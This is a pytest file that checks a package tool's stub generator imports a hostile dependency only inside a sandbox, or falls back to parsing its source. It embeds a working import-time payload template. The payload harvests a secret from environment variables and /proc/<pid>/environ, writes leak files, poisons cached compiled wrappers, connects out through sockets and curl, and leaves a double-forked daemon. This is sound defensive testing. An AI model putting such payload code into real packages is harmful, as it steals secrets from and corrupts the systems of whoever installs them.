"""Issue 14, item 2: stubgen imports a hostile package in a real sandbox, or not at all.

The package built here, when imported, looks for a secret the test put in the lock's environment (its
own `os.environ` and every `/proc/<pid>/environ` it can read, the parent's first), tries to write what it
found into the real HOME, `/tmp` and the shared cache (the compiled-wrapper cache included), connects to
a listener of the test on 127.0.0.1 through `_socket` directly and through child processes (`python -c`,
`curl`), and leaves a double-forked `setsid()` child sleeping. It reports what it saw through names it
creates at import time, which only an import (stubgen's inspect mode) can see.
"""

from __future__ import annotations

import os
import socket
import threading
import tomllib
import uuid
from collections.abc import Iterator
from pathlib import Path

import pytest
from helpers import FixtureIndex, build_wheel, fixture_index, run_cli, write_project

SECRET_VAR = "B14_SANDBOX_SECRET"

HOSTILE = '''\
"""Hostile at import time (tests/hostile/test_stubgen_sandbox.py)."""


def _attack() -> int:
    import os, subprocess, sys
    MARKER, PORT, TARGETS, CACHE = {marker!r}, {port!r}, {targets!r}, {cache!r}
    found = set()
    if os.environ.get({var!r}):
        found.add(os.environ[{var!r}])
    pids = [str(os.getppid())] + [p for p in os.listdir("/proc") if p.isdigit()]
    for pid in pids:
        try:
            with open("/proc/%s/environ" % pid, "rb") as fh:
                for item in fh.read().split(b"\\0"):
                    if item.startswith({var!r}.encode() + b"="):
                        found.add(item.split(b"=", 1)[1].decode())
        except OSError:
            pass
    note = "ran %s; found %r\\n" % (MARKER, sorted(found))
    for target in TARGETS:  # the real HOME, /tmp, the cache
        try:
            with open(os.path.join(target, "leak-" + MARKER), "w") as fh:
                fh.write(note)
        except OSError:
            pass
    for top, _, files in os.walk(CACHE):  # poison every compiled wrapper it can see
        for name in files:
            try:
                with open(os.path.join(top, name), "ab") as fh:
                    fh.write(b"poisoned")
            except OSError:
                pass
    try:
        os.makedirs(os.path.join(CACHE, "wrappers", "evil-" + MARKER), exist_ok=True)
    except OSError:
        pass
    import _socket
    for family, address in ((_socket.AF_INET, ("127.0.0.1", PORT)),):
        try:
            s = _socket.socket(family, _socket.SOCK_STREAM)
            s.settimeout(3)
            s.connect(address)
            s.sendall(note.encode())
        except OSError:
            pass
    code = ("import _socket; s = _socket.socket(); s.settimeout(3); s.connect(('127.0.0.1', %d)); "
            "s.sendall(b'child')" % PORT)
    for argv in ([sys.executable, "-c", code], ["curl", "-s", "-m", "3", "http://127.0.0.1:%d/" % PORT]):
        try:
            subprocess.run(argv, timeout=10, capture_output=True)
        except (OSError, subprocess.SubprocessError):
            pass
    if os.fork() == 0:  # a daemon: double fork, its own session
        os.setsid()
        if os.fork() == 0:
            os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(600)", MARKER])
        os._exit(0)
    os.wait()
    return len(found)


exec("def imported_in_sandbox() -> int:\\n    return 1\\n", globals())  # names only an import can see
exec("def saw_%s_secret() -> int:\\n    return 1\\n" % ("a" if _attack() else "no"), globals())


def plain(x: int) -> int:
    return x
'''


class Listener:
    """A TCP listener on 127.0.0.1 that records every connection it accepts."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.port = self.sock.getsockname()[1]
        self.accepted: list[bytes] = []
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            conn.settimeout(2)
            try:
                self.accepted.append(conn.recv(4096) or b"<connected>")
            except OSError:
                self.accepted.append(b"<connected>")
            conn.close()

    def close(self) -> None:
        self.sock.close()


@pytest.fixture
def listener() -> Iterator[Listener]:
    server = Listener()
    yield server
    server.close()


def _marked_processes(marker: str) -> list[int]:
    pids = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                if marker.encode() in (entry / "cmdline").read_bytes():
                    pids.append(int(entry.name))
            except OSError:
                pass
    return pids


def _hostile_project(tmp_path: Path, listener: Listener, marker: str) -> tuple[Path, FixtureIndex, dict[str, str],
                                                                               list[Path]]:
    home, cache, shared_tmp = tmp_path / "home", tmp_path / "cache", Path("/tmp")
    home.mkdir()
    poison = cache / "wrappers" / ("0" * 64) / "_mochi_other.abi3.so"
    poison.parent.mkdir(parents=True)
    poison.write_bytes(b"a compiled wrapper of another project")
    source = HOSTILE.format(marker=marker, port=listener.port, targets=[str(home), str(shared_tmp), str(cache)],
                            cache=str(cache), var=SECRET_VAR)
    wheel = build_wheel(tmp_path / "wheels", "hostilefix", "1.0", {"hostilefix/__init__.py": source.encode()})
    idx = fixture_index([wheel])
    root = write_project(tmp_path / "proj", 'hostilefix = "1.0"', idx.url)
    env = {"MOCHI_CACHE_DIR": str(cache), "HOME": str(home), SECRET_VAR: f"secret-{marker}"}
    return root, idx, env, [home / f"leak-{marker}", shared_tmp / f"leak-{marker}", cache / f"leak-{marker}",
                            cache / "wrappers" / f"evil-{marker}", poison]


def _entry(root: Path) -> dict[str, object]:
    lock = tomllib.loads((root / "mochi.lock").read_text())
    return next(p for p in lock["python-package"] if p["name"] == "hostilefix")


def test_hostile_import_sees_no_secret_writes_nothing_reaches_no_network_and_leaves_no_process(
        tmp_path: Path, listener: Listener) -> None:
    marker = f"b14-sandbox-{uuid.uuid4().hex}"
    root, idx, env, leaks = _hostile_project(tmp_path, listener, marker)
    try:
        proc = run_cli("lock", str(root), env=env)
    finally:
        idx.stop()
    try:
        assert proc.returncode == 0, proc.stdout + proc.stderr
        # the import really ran, in the sandbox: the names it made at import time are in the stubs
        shim = (root / "python_wrap" / "hostilefix" / "shim.mochi").read_text()
        assert "hostilefix_imported_in_sandbox" in shim, shim
        assert "hostilefix_saw_no_secret" in shim, shim  # neither os.environ nor any /proc/<pid>/environ
        assert _entry(root)["stub-provenance"] == "stubgen"
        assert "warning" not in proc.stderr, proc.stderr
        assert f"secret-{marker}" not in "".join(p.read_text(errors="replace") for p in tmp_path.rglob("*.pyi"))
        _nothing_escaped(leaks, listener, marker)
    finally:
        _clean_up(leaks, marker)


def test_without_namespaces_the_package_is_parsed_not_imported_and_the_lock_says_so(
        tmp_path: Path, listener: Listener) -> None:
    marker = f"b14-fallback-{uuid.uuid4().hex}"
    root, idx, env, leaks = _hostile_project(tmp_path, listener, marker)
    try:
        proc = run_cli("lock", str(root), env={**env, "MOCHI_STUBGEN_SANDBOX": "none"})
    finally:
        idx.stop()
    try:
        assert proc.returncode == 0, proc.stdout + proc.stderr
        assert ("warning: hostilefix: stubs read from its sources, the package was not imported: no sandbox for "
                "stubgen on this system (MOCHI_STUBGEN_SANDBOX=none)") in proc.stderr
        assert _entry(root)["stub-provenance"] == "stubgen"
        shim = (root / "python_wrap" / "hostilefix" / "shim.mochi").read_text()
        assert "extern python fun hostilefix_plain(x: int): int" in shim  # read from the source
        assert "imported_in_sandbox" not in shim  # made only by an import: there was none
        # an import without a sandbox would have done all this: none of it happened
        _nothing_escaped(leaks, listener, marker)
    finally:
        _clean_up(leaks, marker)


def _nothing_escaped(leaks: list[Path], listener: Listener, marker: str) -> None:
    # nothing written outside the sandbox: not the real HOME, not /tmp, not the cache
    assert not any(leak.exists() for leak in leaks[:4])
    assert leaks[4].read_bytes() == b"a compiled wrapper of another project"
    # no network by any route: `_socket`, `python -c`, curl
    assert listener.accepted == []
    # the double-forked setsid() child died with the sandbox
    assert _marked_processes(marker) == []


def _clean_up(leaks: list[Path], marker: str) -> None:
    for pid in _marked_processes(marker):
        os.kill(pid, 9)
    for leak in leaks[:2]:
        leak.unlink(missing_ok=True)
